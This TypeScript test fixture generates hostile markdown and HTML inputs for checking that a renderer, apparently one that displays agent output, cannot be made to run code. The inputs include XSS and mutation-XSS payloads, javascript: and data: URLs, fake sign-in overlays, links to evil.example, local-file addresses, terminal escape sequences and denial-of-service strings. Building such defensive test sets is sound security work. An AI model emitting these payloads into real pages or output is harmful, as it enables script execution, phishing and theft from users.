/** What a text would run where it could: noted by the page's watch (`watchPage`). */
const RUN = 'beckonRan()';

const TAGS =
  'img svg video audio body details marquee input select textarea button a form object math x iframe table template div'.split(
    ' ',
  );
const HANDLERS = [
  `src=x onerror=${RUN}`,
  `onload=${RUN}`,
  `open ontoggle=${RUN}`,
  `autofocus onfocus=${RUN} tabindex=0`,
  `style="animation:x 1s" onanimationstart=${RUN}`,
  `onpointerenter="${RUN}"`,
  `style="background:url(https://evil.example/css)"`,
  `srcdoc="<script>${RUN}</script>"`,
];

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java&#10;script:${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `\u0001javascript:${RUN}`,
  `%6aavascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  'data:text/html;base64,PHNjcmlwdD5iZWNrb25SYW4oKTwvc2NyaXB0Pg==',
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `vbscript:${RUN}`,
  'file:///etc/passwd',
  'vscode://file/etc/passwd',
  'ms-msdt:/id',
  'intent://scan/#Intent;end',
  'blob:https://evil.example/x',
  'view-source:https://evil.example',
  '//evil.example/x',
  '\\\\evil.example\\x',
  'https:evil.example',
  'https://user:secret@evil.example/x',
  'https://evil.example/x?q=secret',
];
const PLACES: readonly ((address: string) => string)[] = [
  (a) => `[x](${a})`,
  (a) => `[x](<${a}>)`,
  (a) => `![x](${a})`,
  (a) => `![x](<${a}> "title")`,
  (a) => `<${a}>`,
  (a) => `[x]\n\n[x]: ${a}`,
  (a) => `[![x](${a})](${a})`,
  (a) => `<a href="${a}" target=_self>x</a>`,
  (a) => `<img src="${a}">`,
  (a) => `<iframe src="${a}"></iframe>`,
  (a) => `<form action="${a}"><button formaction="${a}">x</button></form>`,
  (a) => `<meta http-equiv=refresh content="0;url=${a}">`,
  (a) => `<link rel=stylesheet href="${a}"><link rel=prefetch href="${a}">`,
  (a) => `<base href="${a}"><object data="${a}"></object><embed src="${a}">`,
  (a) => `<svg><use href="${a}"/><image href="${a}"/><a xlink:href="${a}"><text>x</text></a></svg>`,
];

/** Breaks that parsers of different minds read differently, and elements that would take the place of the page's own. */
const ODD = [
  `<script>${RUN}</script>`,
  `<script src=https://evil.example/x.js></script>`,
  `<SCRIPT/x>${RUN}</SCRIPT/x>`,
  `<<script>${RUN}//<</script>`,
  `</textarea></title></style><script>${RUN}</script>`,
  `<style>@import "https://evil.example/x.css"; body { display: none }</style>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  '<img id=root name=body><form id=location><input name=attributes id=getElementById></form>',
  '<a id=beckon href=cid:x></a><a id=beckon name=session href=cid:x></a>',
  '<input type=password name=password autofocus><button type=submit>Sign in</button>',
  '<dialog open>Your session is over. <a href="https://evil.example">Sign in</a></dialog>',
  '<p style="position:fixed;inset:0;z-index:9999;background:white">Approved</p>',
  '<portal src="https://evil.example"></portal><frameset><frame src="https://evil.example"></frameset>',
  '---js\nmodule.exports = beckonRan()\n---\n\nFront matter',
  '---\nx: !!js/function "beckonRan"\n---\n\nFront matter',
  '```js\nbeckonRan()\n</code></pre><script>beckonRan()</script>\n```',
  '````\n```\n</pre><img src=x onerror=beckonRan()>\n```\n````',
  '~~~html\n<img src=x onerror=beckonRan()>\n~~~',
  '```mermaid\ngraph TD; A["<img src=x onerror=beckonRan()>"] --> B; click A href "javascript:beckonRan()"\n```',
  '$$\\href{javascript:beckonRan()}{x}\\htmlData{x=<img src=x onerror=beckonRan()>}$$',
  '| <img src=x onerror=beckonRan()> | [x](javascript:beckonRan()) |\n|--|--|\n| <script>beckonRan()</script> | `<b>` |',
  '- [ ] <img src=x onerror=beckonRan()>\n- [x] [x](javascript:beckonRan())',
  '> <img src=x onerror=beckonRan()>\n>> <script>beckonRan()</script>',
  'A note[^1].\n\n[^1]: <img src=x onerror=beckonRan()> [x](javascript:beckonRan())',
  '[x](javascript:beckonRan() "onmouseover=beckonRan()")',
  '&lt;script&gt;beckonRan()&lt;/script&gt; &#60;img src=x onerror=beckonRan()&#62;',
  '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007 \u001b]52;c;ZXZpbA==\u0007',
];

/** Over 500 texts that an agent might write to be more than text. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} ${handler}>x</${tag}>`)),
  ...PLACES.flatMap((place) => ADDRESSES.map((address) => place(address))),
  ...ODD,
];

/** Texts that cost a careless reader minutes. */
export const COSTLY_TEXTS: readonly string[] = [
  `\`\`\`ts\n${'const a = `${"x".repeat(9)}`; // /*\n'.repeat(20_000)}\n\`\`\``,
  `| a | b |\n|---|---|\n${'| `x` | **y** |\n'.repeat(5_000)}`,
  '*a **b '.repeat(10_000),
  '['.repeat(20_000),
  `${'> '.repeat(500)}x`,
  '![['.repeat(5_000),
  `${'a'.repeat(200_000)}!`,
  '<'.repeat(20_000),
  '`'.repeat(20_000),
  `${'- '.repeat(300)}x`,
  'https://example.com/'.repeat(5_000),
  'x@'.repeat(20_000),
];
